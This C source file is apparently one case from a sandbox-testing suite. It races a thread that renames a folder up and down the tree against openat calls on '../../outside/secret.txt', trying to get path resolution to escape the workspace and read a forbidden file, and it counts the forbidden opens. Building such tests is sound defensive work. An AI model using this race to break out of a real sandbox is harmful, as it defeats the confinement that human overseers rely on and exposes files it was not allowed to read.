// Moves a folder up and down the tree while a path with `..` is walked through it, so that `..` leads
// elsewhere than it did.
// class: OS sandboxes: renames of ancestors during a walk
// plain: leak
#include "race.h"

static void* move_folder(void* unused) {
  (void)unused;
  while (!race_over) {
    rename("a/b/c", "c");
    rename("c", "a/b/c");
  }
  return NULL;
}

int main(int argc, char** argv) {
  (void)argc;
  attack(argv);
  mkdir("a", 0755), mkdir("a/b", 0755), mkdir("a/b/c", 0755);
  mkdir("outside", 0755);
  put_file("outside/secret.txt", "allowed\n");
  mkdir("a/outside", 0755);
  put_file("a/outside/secret.txt", "allowed\n");
  const pthread_t thread = race_begin(move_folder);
  int opened = 0, won = 0;
  for (int i = 0; race_goes_on(i, TRIES); ++i) {
    // From a/b/c this is a/outside; from c, the real one outside the workspace.
    const int folder = open(i % 2 ? "a/b/c" : "c", O_PATH | O_DIRECTORY);
    const int fd = openat(folder, "../../outside/secret.txt", O_RDONLY);
    if (fd >= 0) {
      char content[256];
      const ssize_t n = read(fd, content, sizeof content);
      ++opened;
      if (n > 0 && memcmp(content, "allowed", 7) != 0 && !won++) leak(content, (size_t)n);
      close(fd);
    }
    if (folder >= 0) close(folder);
  }
  race_end(thread);
  if (access("c", F_OK) != 0) rename("a/b/c", "c");
  read_path("c/../../outside/secret.txt");  // the last try, which plainly always works
  printf("opened %d of %d, %d of them forbidden\n", opened, TRIES, won);
  return 0;
}
